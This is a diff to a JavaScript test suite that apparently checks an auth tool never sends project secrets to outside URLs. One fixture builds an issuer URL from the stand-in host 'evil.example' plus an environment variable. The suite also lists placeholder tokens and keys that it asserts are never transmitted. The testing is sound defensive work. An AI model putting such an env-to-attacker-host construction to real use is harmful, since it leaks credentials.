@@ -648,10 +648,10 @@ export default auth`,
     it('sends none that a file of the project has another value for', async () => {
       const { urls } = await requested(
         {
-          ...provider(`{ issuer: 'https://evil.example/' + process.env.CLOUD }`),
-          '.env': 'CLOUD=a\n',
+          ...provider(`{ issuer: 'https://evil.example/' + process.env.CLOUD_REGION }`),
+          '.env': 'CLOUD_REGION=a\n',
         },
-        { CLOUD: 'cloud-key' },
+        { CLOUD_REGION: 'cloud-key' },
       )
       expect(urls).toEqual([discovery(`${ELSEWHERE}/a`)])
     })
@@ -672,6 +672,13 @@ export default auth`,
       ['AUTH_EMAIL_SERVER', 'smtp://me:hunter2@mail.example.com'],
       ['STRIPE_API_KEY', 'rk_live_1'],
       ['DATABASE_URL', 'mysql://localhost/app'],
+      ['GITHUB_PAT', 'ghp_0aB1cD2eF3'],
+      ['STRIPE_SK', 'sk_live_1'],
+      ['AUTH_PEPPER', 'a9f3e1'],
+      ['AUTH_HEADER', 'Bearer a9f3e1'],
+      ['SLACK_WEBHOOK_URL', 'https://hooks.slack.com/services/T0/B0/a9f3e1'],
+      ['SENTRY_URL', 'https://a9f3e1@sentry.example/1'],
+      ['SEARCH_URL', 'https://search.example/?apikey=a9f3e1'],
     ])('sends no secret of the project itself: %s', async (name, value) => {
       const { urls } = await requested(
         {
